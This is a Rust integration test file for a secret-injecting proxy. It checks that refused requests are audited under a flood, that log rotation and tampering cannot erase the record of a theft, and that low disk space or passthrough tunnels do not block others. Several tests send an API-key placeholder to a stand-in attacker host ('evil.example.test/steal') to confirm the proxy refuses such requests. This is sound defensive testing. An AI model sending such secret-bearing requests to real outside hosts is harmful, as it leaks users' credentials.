//! What a VM can have at will never deletes what tells on it, and nobody waits behind it.

use std::collections::HashSet;
use std::fs;
use std::time::{Duration, Instant};

use serde_json::Value;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;

use crate::support::tiny_disk::TinyDisk;
use crate::support::{Canary, Origin, Proxy, eventually};

const HOST: &str = "api.example.test";
/// Refusals that have records of their own.
const BURST: usize = 4000;
/// How long anything may take beside a flood, on a slow machine.
const SOON: Duration = Duration::from_secs(10);
/// One connection is closed after so many.
const REFUSALS_MAX: usize = 100;

/// Refusals over connections of their own, on the port itself: each connection as many as it can get.
async fn flood(proxy: &Proxy, refusals: usize) -> Vec<String> {
    let target = format!("evil.example.test{}", "/x".repeat(20));
    let request = format!("GET http://{target} HTTP/1.1\r\nHost: evil.example.test\r\nx: {{{{API_KEY}}}}\r\n\r\n");
    let mut clients = JoinSet::new();
    for _ in 0..refusals.div_ceil(REFUSALS_MAX) {
        let (client, request) = (proxy.client(), request.repeat(REFUSALS_MAX));
        clients.spawn(async move {
            let mut stream = client.raw().await.expect("the port is open");
            stream.write_all(request.as_bytes()).await.expect("sent");
            let mut answers = String::new();
            let _ = stream.read_to_string(&mut answers).await;
            let ids = answers.lines().filter_map(|line| line.strip_prefix("x-secret-proxy-id: "));
            ids.map(|id| id.trim().to_owned()).collect::<Vec<_>>()
        });
    }
    clients.join_all().await.concat()
}

fn stage(canary: &Canary, origin: &Origin) -> Proxy {
    Proxy::builder()
        .origin(HOST, origin)
        .resolve("dead.example.test:443:127.0.0.1:1")
        .secret("API_KEY", canary, "api.example.test,dead.example.test")
        .start()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn beyond_their_pace_refusals_are_answered_at_once_and_recorded_together() {
    let (canary, origin) = (Canary::new(), Origin::start(&[HOST]));
    let proxy = stage(&canary, &origin);
    let ids = flood(&proxy, BURST + 1000).await;
    assert_eq!(ids.len(), BURST + 1000);
    // Others: a refusal, a permitted request that fails, and one that is served.
    let begun = Instant::now();
    for (url, key, status) in [
        ("https://api.example.test/", "{{API_KYE}}", 403),
        ("https://dead.example.test/", "{{API_KEY}}", 502),
        ("https://api.example.test/", "{{API_KEY}}", 200),
    ] {
        let answer = proxy.client().get(url).header("x-api-key", key).send().await.expect("answered");
        assert_eq!(answer.status, status, "{url}");
    }
    assert!(begun.elapsed() < SOON, "{:?}", begun.elapsed());
    let together = || proxy.audit_lines().into_iter().filter(|it| it["outcome"] == "refused_together");
    let counted = || {
        let counted = together().map(|it| it["count"].as_u64().expect("a number")).sum::<u64>();
        usize::try_from(counted).expect("a small one")
    };
    let alone = || proxy.audit_lines().iter().filter(|it| it["blocked"] == true).count();
    eventually(SOON, "each is recorded or counted", || alone() + counted() == BURST + 1001);
    assert!(alone() >= BURST, "{}", alone());
    let shared = together().next().expect("a record");
    assert_eq!((&shared["hosts"][0]["host"], &shared["secrets"][0]), (&"evil.example.test".into(), &"API_KEY".into()));
    // Every id leads to a record.
    let known: Vec<Value> = proxy.audit_lines();
    let known: HashSet<&str> = known.iter().filter_map(|it| it["id"].as_str()).collect();
    assert!(ids.iter().all(|id| known.contains(id.as_str())));
    let why = proxy.cli(&["why", shared["id"].as_str().expect("text")]);
    assert!(String::from_utf8_lossy(&why.stdout).contains("refused_together"));
    let status = proxy.status();
    assert_eq!(status["audit"]["refused"], (BURST + 1001) as u64);
    assert_eq!((&status["audit"]["unrecorded"], &status["audit"]["refused_together"]), (&0.into(), &counted().into()));
    assert!(proxy.cli(&["audit", "--verify"]).status.success());
}

/// The record of a theft, a trail that keeps two files, and permitted requests for many more.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn permitted_requests_do_not_push_the_record_of_a_theft_out_of_the_trail() {
    let (canary, origin) = (Canary::new(), Origin::start(&[HOST]));
    let proxy = Proxy::builder()
        .origin(HOST, &origin)
        .secret("API_KEY", &canary, HOST)
        .env("SECRET_PROXY_AUDIT_BYTES", "4KiB")
        .env("SECRET_PROXY_AUDIT_KEEP", "2")
        .start();
    let theft = proxy.client().get("https://evil.example.test/steal").header("x-api-key", "{{API_KEY}}");
    let id = theft.send().await.expect("answered").header("x-secret-proxy-id").expect("an id").to_owned();
    let tunnel = proxy.client().tunnel("api.example.test:443").await.expect("a tunnel");
    let live = proxy.dir().join("audit.log");
    let mut rotated = 0;
    while rotated < 20 {
        let before = fs::metadata(&live).map_or(0, |found| found.len());
        let request = tunnel.get("https://api.example.test/echo").header("x-api-key", "{{API_KEY}}");
        assert_eq!(request.send().await.expect("answered").status, 200);
        rotated += usize::from(fs::metadata(&live).map_or(0, |found| found.len()) < before);
    }
    let files = || fs::read_dir(proxy.dir()).expect("a folder").flatten().map(|entry| entry.file_name());
    let trail = || files().filter(|name| name.to_string_lossy().starts_with("audit.log")).count();
    eventually(SOON, "old files are deleted", || trail() == 3);
    let kept = fs::read_to_string(proxy.dir().join("audit.kept.log")).expect("there");
    assert!(kept.contains("/steal") && !kept.contains("\"/echo\""), "{kept}");
    for command in [&["why", &id][..], &["audit", "--blocked"]] {
        let said = proxy.cli(command);
        assert_eq!(String::from_utf8_lossy(&said.stdout).matches("/steal").count(), 1, "{command:?}");
    }
    let verified = proxy.cli(&["audit", "--verify"]);
    assert!(verified.status.success(), "{}", String::from_utf8_lossy(&verified.stdout));
    // It cannot be taken out of there either.
    fs::write(proxy.dir().join("audit.kept.log"), kept.replace("/steal", "/index")).expect("ours");
    assert!(!proxy.cli(&["audit", "--verify"]).status.success());
    fs::remove_file(proxy.dir().join("audit.kept.log")).expect("ours");
    assert!(!proxy.cli(&["audit", "--verify"]).status.success());
}

/// On a disk with little space permitted requests become slow, and none is refused for those of others.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn with_little_space_permitted_requests_wait() {
    let Some(disk) = TinyDisk::mount() else {
        println!("skipped: mounting a small disk takes root");
        return;
    };
    let (canary, origin) = (Canary::new(), Origin::start(&[HOST]));
    let proxy = Proxy::builder().origin(HOST, &origin).secret("API_KEY", &canary, HOST).within(disk.path()).start();
    proxy.status_becomes("the space is known", |status| status["audit"]["low_space"] == true);
    // 313 records of nearly the greatest length are written at once, and 2 in a second after that.
    let (begun, url) = (Instant::now(), format!("https://{HOST}/{}", "x".repeat(1000)));
    let mut clients = JoinSet::new();
    for _ in 0..10 {
        let (client, url) = (proxy.client(), url.clone());
        clients.spawn(async move {
            let tunnel = client.tunnel("api.example.test:443").await.expect("a tunnel");
            for _ in 0..33 {
                let answer = tunnel.get(&url).header("x-api-key", "{{API_KEY}}").send().await.expect("answered");
                assert_eq!(answer.status, 200);
            }
        });
    }
    clients.join_all().await;
    assert!(begun.elapsed() > Duration::from_secs(2), "{:?}", begun.elapsed());
    // A refusal does not wait.
    let begun = Instant::now();
    let refused = proxy.client().get("https://evil.example.test/").header("x-api-key", "{{API_KEY}}");
    assert_eq!(refused.send().await.expect("answered").status, 403);
    assert!(begun.elapsed() < SOON, "{:?}", begun.elapsed());
    assert_eq!(proxy.audit_lines().len(), 331);
}

/// A pass-through tunnel has cost a dial; many of them slow down neither others nor themselves.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tunnels_that_are_passed_through_do_not_wait_for_others() {
    let origin = Origin::start(&[HOST]);
    let proxy = Proxy::builder().origin(HOST, &origin).arg("--passthrough").arg(HOST).start();
    let mut clients = JoinSet::new();
    for _ in 0..16 {
        let client = proxy.client();
        clients.spawn(async move {
            for _ in 0..300 {
                let mut stream = client.raw().await.expect("the port is open");
                stream
                    .write_all(b"CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test\r\n\r\n")
                    .await
                    .expect("sent");
                let mut status = [0; 12];
                stream.read_exact(&mut status).await.expect("answered");
                assert_eq!(&status, b"HTTP/1.1 200");
            }
        });
    }
    clients.join_all().await;
    assert_eq!(proxy.audit_lines().len(), 16 * 300);
}
